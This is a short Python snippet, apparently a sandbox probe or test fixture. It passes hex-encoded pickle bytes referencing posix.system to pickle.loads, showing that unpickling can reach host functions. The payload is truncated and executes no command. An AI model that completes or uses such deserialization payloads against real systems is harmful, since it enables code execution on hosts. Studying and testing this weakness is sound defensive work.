# A module that reaches the host (pickle).
import pickle

pickle.loads(bytes.fromhex("63706f7369780a73797374656d0a"))
